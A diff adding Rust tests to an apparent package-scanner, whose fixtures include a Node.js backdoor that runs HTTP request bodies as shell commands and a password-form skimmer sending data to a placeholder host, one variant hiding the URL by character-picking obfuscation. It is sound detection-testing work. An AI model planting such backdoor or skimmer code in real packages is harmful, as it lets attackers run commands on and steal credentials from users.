@@ -1131,3 +1131,82 @@ fn shell_files_named_by_import_code_are_judged() {
     assert_rule(&analysis, "shell-fetch-and-run");
     assert_ne!(verdict(&analysis, &package), Verdict::Allow);
 }
+
+/// A module that starts a server when loaded and runs each request's body as a
+/// shell command is a backdoor; a dev server that opens an editor on the file a
+/// request names passes the request only as an argument, which is how such tools
+/// work.
+#[test]
+fn a_server_that_runs_request_bodies_as_commands_is_blocked() {
+    let backdoor = airlock_test::PackageBuilder::new("req-shell", "1.0.0")
+        .file(
+            "index.js",
+            "const exec = require('child_process').execSync;\nrequire('http').createServer(function (req, res) {\n  let body = [];\n  req.on('data', (chunk) => { body.push(chunk); }).on('end', () => {\n    body = Buffer.concat(body).toString();\n    res.end(exec(body));\n  });\n}).listen(8124, '127.0.0.1');\n",
+        )
+        .build();
+    let analysis = check_blocked(&backdoor, &[Code::DownloadExecute]);
+    assert_rule(&analysis, "evaluates-requests");
+
+    let editor = airlock_test::PackageBuilder::new("open-in-editor-middleware", "1.0.0")
+        .file(
+            "index.js",
+            "const { spawn } = require('child_process');\nmodule.exports = function (req, res) {\n  let file = '';\n  req.on('data', (chunk) => { file += chunk; });\n  req.on('end', () => { spawn(process.env.EDITOR || 'code', [file]); res.end(); });\n};\n",
+        )
+        .build();
+    let analysis = analyse(&editor);
+    assert!(
+        !rules_of(&analysis).contains(&"evaluates-requests".to_owned()),
+        "{}",
+        report(&analysis)
+    );
+    assert_eq!(
+        verdict(&analysis, &editor),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// Browser code that collects every field of a form with a password in it and
+/// loads an address on a host written in the code, carrying the values, is a
+/// skimmer, also when that address is spelled out of an alphabet string one
+/// character at a time; a form library that submits the same values to the form's
+/// own `action` is not.
+#[test]
+fn a_form_skimmer_is_blocked_and_a_form_library_is_not() {
+    const SKIM: &str = "document.forms[0].addEventListener('submit', function () {\n  var data = '';\n  for (var i = 0; i < this.elements.length; i++) data += this.elements[i].name + ':' + this.elements[i].value;\n  var link = document.createElement('link');\n  link.rel = 'prefetch';\n  link.href = HOST + btoa(data);\n  document.head.appendChild(link);\n});\n";
+    let plain = format!("var HOST = 'https://collector.example.invalid/c?d=';\n{SKIM}");
+    // 'https://collector.example.invalid/c?d=' picked out of a scrambled alphabet.
+    let alphabet = "htps:/colerxam.inv d?=";
+    let url = "https://collector.example.invalid/c?d=";
+    let picks: Vec<String> = url
+        .chars()
+        .map(|c| format!("_a[{}]", alphabet.find(c).expect("in the alphabet")))
+        .collect();
+    let spelled = format!(
+        "!function () {{ _a = '{alphabet}'; HOST = {};\n{SKIM}}}();\n",
+        picks.join("+")
+    );
+    for (name, code) in [("skim-plain", plain), ("skim-spelled", spelled)] {
+        let package = airlock_test::PackageBuilder::new(name, "1.0.0")
+            .file("index.js", code)
+            .build();
+        let analysis = check_blocked(&package, &[Code::DataExfiltration]);
+        assert_rule(&analysis, "exfil-form-input");
+        assert_message(&analysis, "collector.example.invalid");
+    }
+
+    let library = airlock_test::PackageBuilder::new("form-submit", "1.0.0")
+        .file(
+            "index.js",
+            "module.exports = function submit(form) {\n  var body = new URLSearchParams();\n  for (var i = 0; i < form.elements.length; i++) body.append(form.elements[i].name, form.elements[i].value);\n  return fetch(form.action, { method: 'POST', body: body });\n};\n",
+        )
+        .build();
+    let analysis = analyse(&library);
+    assert_eq!(
+        verdict(&analysis, &library),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
